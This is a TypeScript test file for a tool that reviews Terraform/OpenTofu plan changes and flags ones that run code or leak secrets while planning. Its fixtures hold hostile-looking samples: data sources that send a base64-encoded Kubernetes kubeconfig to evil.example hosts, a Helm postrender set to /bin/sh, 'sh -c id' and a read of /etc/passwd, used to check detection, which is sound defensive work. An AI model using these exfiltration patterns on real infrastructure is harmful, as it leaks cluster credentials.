import { describe, expect, test } from 'vitest';
import { first, type Json, type Output, useOrbital } from './output';

const review = useOrbital();

const tools = 'it-shared-platform-tools';
const edit = (stack: string, change: (main: Json) => void) => (output: Output) => output.stack(stack, change);

const data = (stack: string, type: string, body: Json, more: (main: Json) => void = () => {}) =>
  edit(stack, (main) => {
    main.data[type] = { ...main.data[type], X: body };
    more(main);
  });

/** `${ovh_cloud_project_kube.main.kubeconfig}` of the stack of erp. */
const secret = (main: Json): string =>
  `\${base64encode(ovh_cloud_project_kube.${first(main.resource.ovh_cloud_project_kube)[0]}.kubeconfig)}`;

const saysOf = (seen: ReturnType<typeof review>, kind: string): readonly string[] =>
  seen.report.stacks.flatMap(({ findings }) => findings.filter((one) => one.class === kind).map(({ says }) => says));

describe('a chart that is only rendered', () => {
  const chart = { name: 'x', chart: 'x', version: '1.0.0', repository: 'https://charts.example.org' };

  test('runs the program that it is handed to, and the finding shows which', () => {
    const seen = review({
      base: data(tools, 'helm_template', chart),
      head: data(tools, 'helm_template', { ...chart, postrender: { binary_path: '/bin/sh' } }),
    });
    const [found] = seen.report.stacks.flatMap(({ findings }) => findings);
    expect(found).toMatchObject({
      class: 'runs-code',
      says: 'runs a program over what the chart renders (postrender)',
      attributes: [{ attribute: 'postrender', after: '{"binary_path":"/bin/sh"}' }],
    });
  });

  test('is from elsewhere like one that is installed', () => {
    expect(saysOf(review({ head: data(tools, 'helm_template', chart) }), 'runs-code')).toEqual([
      'renders a chart from elsewhere: x 1.0.0 from https://charts.example.org',
    ]);
    const moved = { ...chart, repository: 'https://evil.example.org' };
    const sides = { base: data(tools, 'helm_template', chart), head: data(tools, 'helm_template', moved) };
    expect(review(sides).gates).toContain('runs-code');
    const other = {
      base: data(tools, 'helm_template', chart),
      head: data(tools, 'helm_template', { ...chart, name: 'y' }),
    };
    expect(review(other).gates).toEqual([]);
  });
});

describe('a value of the stack leaves while it plans', () => {
  const evil = 'https://evil.example';
  test.each<readonly [string, string, (value: string) => Json]>([
    [
      'as the address of a state',
      'terraform_remote_state',
      (value) => ({ backend: 'http', config: { address: `${evil}/${value}` } }),
    ],
    [
      'as the key of a state',
      'terraform_remote_state',
      (value) => ({ backend: 's3', config: { bucket: 'b', key: value } }),
    ],
    [
      'as the workspace of a state',
      'terraform_remote_state',
      (value) => ({ backend: 's3', workspace: value, config: { bucket: 'b', key: 'k' } }),
    ],
    [
      'by a backend that is not known',
      'terraform_remote_state',
      (value) => ({ backend: value, config: { path: 'a' } }),
    ],
    ['as an address', 'http', (value) => ({ url: `${evil}/${value}` })],
    ['as the name of a host', 'tls_certificate', (value) => ({ url: `https://${value}.evil.example` })],
    ['as a question for a name', 'dns_a_record_set', (value) => ({ host: `${value}.evil.example` })],
  ])('%s', (_, type, body) => {
    const head = (output: Output) =>
      output.stack('erp-prod', (main) => {
        main.data[type] = { X: body(secret(main)) };
      });
    expect(review({ head }).gates).toContain('runs-code');
  });

  test('behind a local value that was there before', () => {
    const by = (value: (main: Json) => string) =>
      edit('erp-prod', (main) => {
        main.locals = { where: value(main) };
        main.data.terraform_remote_state = { X: { backend: 'http', config: { address: `\${local.where}` } } };
      });
    expect(review({ base: by(() => evil), head: by((main) => `${evil}/${secret(main)}`) }).gates).toContain(
      'runs-code',
    );
  });

  test('in a check', () => {
    const head = edit('erp-prod', (main) => {
      const assert = [{ condition: `\${true}`, error_message: 'no' }];
      const data = {
        terraform_remote_state: { X: { backend: 'http', config: { address: `${evil}/${secret(main)}` } } },
      };
      main.check = { c: { assert, data } };
    });
    expect(review({ head }).gates).toContain('runs-code');
  });

  test.each<readonly [string, Json]>([
    ['with literals', { backend: 's3', config: { bucket: 'b', key: 'k' }, workspace: `\${terraform.workspace}` }],
    ['by a known local value', { backend: 's3', config: { bucket: `\${local.bucket}`, key: 'k' } }],
    ['from a file', { backend: 'local', config: { path: `\${ovh_cloud_project_kube.x.id}.tfstate` } }],
    [
      'with something in the place of what is not there',
      { backend: 's3', config: { key: 'k' }, defaults: { id: `\${terraform_data.x.id}` } },
    ],
  ])('but not where a state is read %s', (_, body) => {
    const head = data('erp-prod', 'terraform_remote_state', body, (main) => {
      main.locals = { bucket: 'states' };
    });
    expect(review({ head }).gates).toEqual([]);
  });
});

describe('a data source of a provider that is there', () => {
  const requires = (source: string, name = 'local') =>
    edit('erp-prod', (main) => {
      main.terraform.required_providers[name] = { source, version: '1.0.0' };
    });
  const beside =
    (base: (output: Output) => void, type: string, body: Json, section = 'data') =>
    (output: Output) => {
      base(output);
      output.stack('erp-prod', (main) => {
        main[section] = { ...main[section], [type]: { X: body } };
      });
    };

  test.each<readonly [string, string, Json, string]>([
    ['runs a program', 'local_command', { command: 'sh', arguments: ['-c', 'id'] }, 'runs a program while it plans'],
    ['reads a file', 'local_file', { filename: '/etc/passwd' }, 'reads files of the machine that deploys'],
  ])('%s', (_, type, body, says) => {
    const base = requires('hashicorp/local');
    expect(saysOf(review({ base, head: beside(base, type, body) }), 'runs-code')).toEqual([says]);
  });

  test('does what nobody here knows', () => {
    for (const section of ['data', 'ephemeral']) {
      const base = requires('acme/thing', 'thing');
      const seen = review({ base, head: beside(base, 'thing_of', { a: 1 }, section) });
      expect(saysOf(seen, 'unread')).toEqual([
        'nobody here knows what a data source of acme/thing does while it plans',
      ]);
      expect(seen.gates).toEqual(['unread']);
    }
  });

  test('does what nobody here knows, under the name of another provider', () => {
    const base = requires('acme/time', 'time');
    expect(review({ base, head: beside(base, 'time_of', {}) }).gates).toContain('unread');
  });

  test('is known, whichever way the provider is written', () => {
    for (const source of [
      'time',
      'hashicorp/time',
      'registry.terraform.io/hashicorp/time',
      'registry.opentofu.org/Hashicorp/time',
    ]) {
      const base = requires(source, 'time');
      expect(review({ base, head: beside(base, 'time_of', {}) }).gates, source).toEqual([]);
    }
  });

  test('runs a script as a resource', () => {
    const base = requires('scottwinkler/shell', 'shell');
    const script = { lifecycle_commands: { create: 'id', delete: 'id' } };
    expect(review({ base, head: beside(base, 'shell_script', script, 'resource') }).gates).toContain('runs-code');
  });
});

describe('an action', () => {
  const command = (text: string, locals: Json = {}) =>
    edit('erp-prod', (main) => {
      main.locals = locals;
      main.action = [{ local_command: { x: { config: { command: text } } } }];
    });
  const triggered = (output: Output) =>
    output.stack('erp-prod', (main) => {
      const [, cluster] = first(main.resource.ovh_cloud_project_kube);
      cluster.lifecycle = { action_trigger: [{ events: ['after_update'], actions: ['action.local_command.x'] }] };
    });

  test('that is new may be run', () => {
    const seen = review({ head: command('id') });
    expect(saysOf(seen, 'runs-code')).toEqual(['may run an action of a provider: local_command.x']);
    expect(seen.gates).not.toContain('unread');
  });

  test('that is another one may be run, also behind a local value', () => {
    expect(review({ base: command('ls'), head: command('id') }).gates).toContain('runs-code');
    const by = (text: string) => command(`\${local.command}`, { command: text });
    expect(review({ base: by('ls'), head: by('id') }).gates).toContain('runs-code');
  });

  test('that a resource triggers is run', () => {
    const seen = review({ base: command('id'), head: triggered });
    expect(saysOf(seen, 'runs-code')).toEqual(['runs action.local_command.x when it changes (after_update)']);
  });

  test('that is there as before, is gone or is triggered no more runs nothing', () => {
    const both = (output: Output) => {
      command('id')(output);
      triggered(output);
    };
    const none = (output: Output) =>
      output.stack('erp-prod', (main) => {
        main.locals = { other: 1 };
        delete main.action;
        delete first(main.resource.ovh_cloud_project_kube)[1].lifecycle;
      });
    const other = edit('erp-prod', (main) => {
      main.locals = { other: 1 };
    });
    expect(review({ base: both, head: other }).gates).toEqual([]);
    expect(review({ base: both, head: none }).gates).toEqual([]);
  });
});
